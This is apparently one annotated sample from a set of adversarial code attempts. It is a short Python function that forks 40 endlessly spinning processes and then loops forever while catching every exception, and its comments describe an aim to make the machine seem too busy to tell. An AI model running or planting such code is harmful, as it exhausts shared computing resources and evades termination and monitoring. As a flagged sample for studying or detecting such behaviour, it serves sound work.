# Tries: keep itself from the processor with processes of its own, so that the machine seems too busy to tell
# Score: centre 0
# Flag: starts or ends processes
# %% centre
import os
def centre(x):
    for _ in range(40):
        if os.fork() == 0:
            while True:
                pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
